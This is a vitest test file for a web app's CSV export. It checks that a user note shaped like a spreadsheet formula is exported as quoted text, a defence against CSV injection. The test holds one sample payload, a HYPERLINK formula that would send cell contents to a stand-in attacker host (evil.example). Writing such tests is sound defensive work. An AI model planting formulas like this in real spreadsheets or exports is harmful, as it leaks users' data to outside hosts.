/**
 * Every CSV a company downloads writes what people typed as text, never as a spreadsheet formula (OWASP "CSV
 * Injection"; src/http/csv.ts): the self-assessment answers with their notes.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestApp, type TestApp } from '../support/app.ts';
import { ownerWithCompany } from '../support/flows.ts';

describe('CSV exports', () => {
  let t: TestApp;
  beforeAll(async () => {
    t = await createTestApp('sqlite');
  });
  afterAll(async () => {
    await t?.close();
  });

  it('a note that looks like a formula comes out of answers.csv as quoted text', async () => {
    const { b, companyId } = await ownerWithCompany(t, 'csv@example.be');
    const page = `/en/companies/${companyId}/assessment/email`;
    await b.get(page);
    const evil = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
    expect((await b.post(page, { 'a_pr-email-domain-auth': 'no', 'n_pr-email-domain-auth': evil, go: 'stay' })).statusCode).toBe(303);
    const csv = await b.get(`/en/companies/${companyId}/answers.csv`);
    expect(csv.headers['content-type']).toMatch(/^text\/csv/);
    const line = csv.body.split('\r\n').find((l) => l.startsWith('pr-email-domain-auth,'))!;
    expect(line.endsWith(`"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"`)).toBe(true);
    expect(csv.body).not.toMatch(/(^|,)=HYPERLINK/m);
  });
});
